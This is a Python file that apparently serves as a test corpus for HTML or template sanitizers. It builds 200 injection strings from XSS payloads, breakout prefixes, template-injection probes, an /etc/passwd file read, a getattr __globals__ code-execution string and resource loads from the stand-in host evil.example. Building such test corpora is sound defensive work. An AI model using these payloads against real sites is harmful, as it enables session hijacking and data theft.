"""Two hundred texts that want to be more than text: in pages, attributes, scripts, styles, addresses, templates and PDFs."""

#: Stands in each of them, so that what comes of it is found.
MARKER = "gxss"

RUN = f"window.{MARKER}=1;alert(1)"

BASES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>{MARKER}</text></a>",
    f"<math><mi xlink:href=javascript:{RUN}>{MARKER}",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{MARKER}=1</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>{MARKER}</a>",
    f"<form action=javascript:{RUN}><button>{MARKER}",
    f"<button formaction=javascript:{RUN}>{MARKER}",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=//evil.example/{MARKER}/>",
    f"<link rel=stylesheet href=//evil.example/{MARKER}>",
    f"<style>@import '//evil.example/{MARKER}'</style>",
    f"<p style=background:url(//evil.example/{MARKER})>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<div hx-get=/account hx-trigger=load id={MARKER}>",
    f"<div hx-on:load={RUN}>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<para><font color='[[[getattr(pow,Word(\"__globals__\"))]]]'>{MARKER}</font></para>",
    f"<img src='/etc/passwd' width=9/>{MARKER}",
    f"<a href='file:///etc/passwd'>{MARKER}</a>",
    f"{{{{ 7*7 }}}}{{{{ config }}}}{MARKER}",
    f"{{% for x in config %}}{MARKER}",
    f"${{7*7}}#{{7*7}}{MARKER}",
    f"%(name)s %s %n {MARKER}",
    f"';{RUN};'",
    f'";{RUN};"',
    f"</script><script>{RUN}</script>",
    f"--></style></script></title><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u2066",
    f"\u2028\u2029<img src=x onerror={RUN}>",
    f"＜script＞{RUN}＜/script＞",
    f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;",
    f"<b>a<i>b</b>c</i>{MARKER}<",
    f"a<b {MARKER} & c>d \"e\" 'f'",
)

#: How a text gets out of where it was put.
WAYS_OUT = ("{}", '"> {}', "'> {}", "</option></select>{}")

CORPUS = tuple(way.format(base) for base in BASES for way in WAYS_OUT)
